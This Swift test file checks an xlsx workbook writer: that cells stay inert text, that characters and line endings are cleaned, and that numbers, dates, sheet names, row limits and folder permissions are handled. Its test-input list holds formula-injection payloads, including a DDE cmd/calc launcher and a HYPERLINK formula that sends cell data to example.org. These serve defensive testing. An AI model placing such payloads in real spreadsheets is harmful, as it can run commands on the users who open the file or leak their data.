import Exchange
import FoundationEssentials
import Sightline
import Statistics
import TestSupport
import Testing

/// Workbooks, as a program reads them that has nothing to do with the one that writes them.
struct WorkbookTests {
    /// Texts that spreadsheets have run, followed or fetched.
    private static let attacks = [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-1", "@SUM(1+1)", "\t=1+1", "\n=1+1", "\r=1+1",
        "=HYPERLINK(\"http://example.org/?\"&A1,\"Open\")", "{=1+1}", "=WEBSERVICE(\"http://example.org\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "http://example.org", "mailto:ada@example.org",
        "internal:Sheet1!A1",
        "external:other.xlsx", "]]>", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "&#61;1+1", "&amp;",
        "<!--", "<?xml?>", "_x003D_1+1", "_x000D_", "_x005F_x003D_", "__x0041_", "0.1", "2026-01-01", "TRUE",
        "'",
        "'=1+1", " =1+1", "=1+1 ", "１２", "=１+１", "＝1+1", "👩‍👩‍👧 é e\u{301}", "\u{202E}txt.exe", "\u{FEFF}=1",
        "#REF!",
    ]

    /// A text whose lines all end in LF.
    private static func withPlainLines(_ text: String) -> String {
        let bytes = Array(text.utf8).replacing([13, 10], with: [10]).replacing([13], with: [10])
        return String(decoding: bytes, as: UTF8.self)
    }

    @Test func `every text is stored as text, and nothing in a workbook does anything`() throws {
        var table = SampleTable(texts: Self.attacks)
        table.columns = ["=1+1"]
        table.title = "=1+1"
        let read = try ReadWorkbook(try table.workbook())
        #expect(read.active.isEmpty)
        let sheet = read.sheets[0]
        #expect(sheet.rows.allSatisfy { $0.allSatisfy { $0.kind == .text } })
        #expect(sheet.column("=1+1") == Self.attacks.map(Self.withPlainLines))
        #expect(read.title == "=1+1")
    }

    @Test func `what XML can't hold is replaced, and lines end in one way`() throws {
        let controls = (0..<0x20).compactMap(UnicodeScalar.init).map { String(Character($0)) }
        let texts =
            controls.map { "a\($0)b" } + ["\0=1+1", "a\r\nb", "a\n\rb", "\u{FFFE}", "\u{FFFF}", "\u{FFFD}"]
        let expected = texts.map { text in
            String(
                String.UnicodeScalarView(
                    Self.withPlainLines(text).unicodeScalars.map { scalar in
                        switch scalar.value {
                        case 9, 10: scalar
                        case 0..<32, 0xFFFE, 0xFFFF: "\u{FFFD}"
                        default: scalar
                        }
                    }
                )
            )
        }
        let read = try ReadWorkbook(try SampleTable(texts: texts).workbook())
        #expect(read.sheets[0].column("cell") == expected)
    }

    @Test(arguments: 1...4) func `any text comes out as it went in`(seed: UInt64) throws {
        var random = SplitMix(seed: seed)
        let pieces = [
            "=", "_", "x", "0", "4", "1", "F", "<", ">", "&", "\"", "'", "]", "é", "🙂", " ", "\n", "\t", "@",
            "+",
        ]
        let texts = (0..<400).map { _ in
            (0..<Int.random(in: 1...24, using: &random)).map { _ in pieces.randomElement(using: &random) ?? ""
            }.joined()
        }
        let read = try ReadWorkbook(try SampleTable(texts: texts).workbook())
        #expect(read.active.isEmpty)
        #expect(read.sheets[0].column("cell") == texts)
        #expect(read.sheets[0].rows.allSatisfy { $0.allSatisfy { $0.kind == .text } })
    }

    @Test func `numbers are numbers, days are days, and what a spreadsheet can't hold is text`() throws {
        func day(_ text: String) throws -> Day { try #require(Day(text)) }
        let cells: [(SampleTable.Cell, ReadWorkbook.Cell)] = [
            (.number(0.1), .init(.number, "0.1")), (.number(-1e-7), .init(.number, "-1e-07")),
            (.number(.nan), .init(.empty, "")), (.number(-.infinity), .init(.empty, "")),
            (.number(nil), .init(.empty, "")), (.count(-3), .init(.number, "-3.0")),
            (.count(.max), .init(.text, "9223372036854775807")), (.text(""), .init(.empty, "")),
            (.day(nil), .init(.empty, "")), (.day(try day("2024-02-29")), .init(.day, "2024-02-29")),
            (.day(try day("9999-12-31")), .init(.day, "9999-12-31")),
            (.day(try day("1900-03-01")), .init(.day, "1900-03-01")),
            // Some programs have a 29 February 1900, so they are a day apart before it.
            (.day(try day("1900-02-28")), .init(.text, "1900-02-28")),
            (.day(try day("0001-01-01")), .init(.text, "0001-01-01")),
            (.instant(SampleTable.made), .init(.instant, "2026-01-01T00:00:00")),
            (
                .instant(Timestamp(microseconds: SampleTable.made.microseconds + 86_399_999_999)),
                .init(.instant, "2026-01-01T23:59:59")
            ),
            (.instant(Timestamp(microseconds: -3_000_000_000_000_000)), .init(.text, "1874-12-07T18:40:00Z")),
        ]
        var table = SampleTable([cells.map(\.0)])
        table.columns = cells.indices.map { "c\($0)" }
        let read = try ReadWorkbook(try table.workbook())
        for (index, cell) in cells.enumerated() {
            #expect(read.sheets[0].cell(1, index) == cell.1, "\(cell.0)")
        }
    }

    @Test func `the header stays in sight and filters, and columns are as wide as what is in them`() throws {
        var table = SampleTable([
            [.text(String(repeating: "w", count: 30)), .number(1)], [.text(""), .number(2)],
        ])
        table.columns = ["long", "n"]
        let sheet = try ReadWorkbook(try table.workbook()).sheets[0]
        #expect(sheet.frozen == 1 && sheet.filter == "A1:B3")
        #expect(sheet.widths.count == 2 && sheet.widths[0] > 30 && sheet.widths[1] < 15)
        let empty = try ReadWorkbook(try SampleTable([]).workbook()).sheets[0]
        #expect(empty.rows == [[.init(.text, "cell")]] && empty.frozen == 1)
    }

    @Test func `a text that is too long is named by its column and row, and the longest that fits is kept`()
        throws
    {
        for character in ["a", "🙂"] {
            let most = 32_767 / character.utf16.count
            let longest = String(repeating: character, count: most)
            let read = try ReadWorkbook(try SampleTable(texts: ["", longest]).workbook())
            #expect(read.sheets[0].column("cell") == ["", longest])
            #expect(throws: WorkbookError.textTooLong(column: "cell", row: 3, most: 32_767)) {
                try SampleTable(texts: ["", longest + character]).workbook()
            }
        }
    }

    @Test func `a workbook holds as many rows as a sheet can, and one more is an error`() throws {
        struct Long: DataTable {
            let count: Int
            var title: String { "Long" }
            var columns: [String] { ["n"] }
            func write(to writer: inout some TableWriter) throws {
                for number in 0..<count {
                    try writer.field(number)
                    try writer.endRow()
                }
            }
        }
        let most = 1_048_575
        #expect(throws: WorkbookError.tooManyRows(most: most)) {
            try TableFormat.xlsx.bytes(of: Long(count: most + 1), made: SampleTable.made)
        }
    }

    @Test(arguments: [
        ("", "Data"), ("'", "Data"), ("History", "Data"), ("a/b\\c*d?e:f[g]h", "a b c d e f g h"),
        ("'quoted'", "quoted"), ("A\0B", "A B"), ("it's", "it's"),
        (String(repeating: "n", count: 40), String(repeating: "n", count: 31)),
        (String(repeating: "🙂", count: 16), String(repeating: "🙂", count: 15)),
    ]) func `a sheet has a name that it can have`(title: String, name: String) throws {
        var table = SampleTable([])
        table.title = title
        table.others = [title.lowercased(), "About"]
        let names = try ReadWorkbook(try table.workbook()).sheets.map(\.name)
        #expect(names.count == 3 && names[0] == name && names[2] == "About")
        #expect(names[1].lowercased() != name.lowercased() && names[1].utf16.count <= 31)
    }

    @Test func `the same rows make the same bytes, and it says when it was made`() throws {
        let table = SampleTable(texts: Self.attacks)
        let bytes = try table.workbook()
        #expect(try table.workbook() == bytes)
        #expect(try ReadWorkbook(bytes).created == "2026-01-01T00:00:00Z")
    }

    @Test func `a file in a folder of its own goes with it`() throws {
        var folder: PrivateFolder? = try PrivateFolder()
        let path = try #require(folder?.path)
        let file = try #require(folder?.file("some.xlsx"))
        try Data([1]).write(to: URL(filePath: file))
        let attributes = try FileManager.default.attributesOfItem(atPath: path)
        #expect(attributes[.posixPermissions] as? Int == 0o700)
        folder = nil
        #expect(!FileManager.default.fileExists(atPath: path))
    }
}
